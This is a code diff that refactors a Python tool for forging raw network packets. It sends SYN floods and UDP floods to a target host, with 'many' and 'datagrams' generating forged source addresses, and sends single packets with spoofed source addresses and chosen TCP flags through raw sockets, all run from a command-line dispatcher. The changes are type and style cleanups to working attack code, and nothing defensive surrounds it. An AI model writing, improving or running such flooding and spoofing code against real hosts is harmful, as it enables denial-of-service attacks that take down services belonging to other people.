@@ -19,7 +19,7 @@ def checksum(words: bytes) -> int:
     """RFC 1071."""
     total = sum(struct.unpack(f"!{len(words) // 2}H", words))
     total = (total & 0xFFFF) + (total >> 16)
-    return ~(total + (total >> 16)) & 0xFFFF
+    return int(~(total + (total >> 16)) & 0xFFFF)
 
 
 def packet(
@@ -56,12 +56,12 @@ def carried(
 
 def many(host: str, port: str, first: str, count: str, own: str = str(SOURCE_PORT)) -> None:
     ports = int(own), int(port)
-    flood(host, first, count, lambda *ends: packet(*ends, ports, SYN, 1000))
+    flood(host, first, count, lambda source, to: packet(source, to, ports, SYN, 1000))
 
 
 def datagrams(host: str, port: str, first: str, count: str) -> None:
     ports = SOURCE_PORT, int(port)
-    flood(host, first, count, lambda *ends: datagram(*ends, ports))
+    flood(host, first, count, lambda source, to: datagram(source, to, ports))
 
 
 def flood(host: str, first: str, count: str, make: Callable[[bytes, bytes], bytes]) -> None:
@@ -75,8 +75,8 @@ def flood(host: str, first: str, count: str, make: Callable[[bytes, bytes], byte
 
 def one(host: str, port: str, source: str, source_port: str, flags: str, number: str) -> None:
     family = socket.AF_INET6 if ":" in host else socket.AF_INET
-    ends = (socket.inet_pton(family, end) for end in (source, host))
-    forged = packet(*ends, (int(source_port), int(port)), int(flags), int(number))
+    own, its = (socket.inet_pton(family, end) for end in (source, host))
+    forged = packet(own, its, (int(source_port), int(port)), int(flags), int(number))
     with raw(family) as sender:
         sender.sendto(forged, (host, 0))
 
@@ -86,4 +86,5 @@ def raw(family: int) -> socket.socket:
 
 
 if __name__ == "__main__":
-    {"many": many, "datagrams": datagrams, "one": one}[sys.argv[1]](*sys.argv[2:])
+    commands: dict[str, Callable[..., None]] = {"many": many, "datagrams": datagrams, "one": one}
+    commands[sys.argv[1]](*sys.argv[2:])
